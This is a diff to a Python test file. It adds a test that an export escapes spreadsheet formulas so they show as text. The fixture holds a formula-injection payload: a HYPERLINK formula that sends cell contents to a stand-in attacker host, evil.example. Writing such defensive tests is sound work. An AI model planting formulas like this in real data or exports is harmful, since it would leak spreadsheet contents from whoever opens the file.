@@ -45,6 +45,14 @@ def test_a_batch_is_answered_per_event_and_resending_it_changes_nothing(client, 
     assert weekly["bio"] == pytest.approx(2.0)
 
 
+def test_the_export_keeps_formulas_as_text(client, staff, home) -> None:
+    evil = event(home, firmware='=HYPERLINK("http://evil.example/?"&A1,"update")')
+    assert upload(client, home, [evil]).json()["accepted"] == 1
+    row = next(r for r in exported(client, staff) if r["event_id"] == evil["id"])
+    assert row["firmware"] == "'" + evil["firmware"]  # a spreadsheet shows it, never runs it
+    assert float(row["net_kg"]) == 1.25
+
+
 def test_implausible_events_are_rejected_with_reasons_kept_once_and_can_be_retried(client, staff, home) -> None:
     other = enrol(client, staff)
     now = dt.datetime.now(dt.UTC)
